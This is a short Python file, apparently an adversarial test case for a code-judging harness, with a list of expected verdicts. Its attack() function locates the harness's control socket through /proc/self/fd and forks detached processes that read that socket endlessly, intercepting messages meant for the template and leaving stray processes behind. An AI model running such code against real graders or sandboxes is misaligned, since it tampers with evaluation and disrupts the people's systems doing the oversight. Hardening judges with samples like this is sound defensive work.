"""Leaves processes that read in the template's place what is meant for the template."""
#: verdict = ["wrong_answer", "runtime_error", "time_limit_exceeded"]
import os

def attack(number):
    control = next(int(fd) for fd in os.listdir("/proc/self/fd") if "socket" in os.path.realpath(f"/proc/self/fd/{fd}"))
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.read(control, 65536)
                except OSError:
                    pass
    return "stolen"
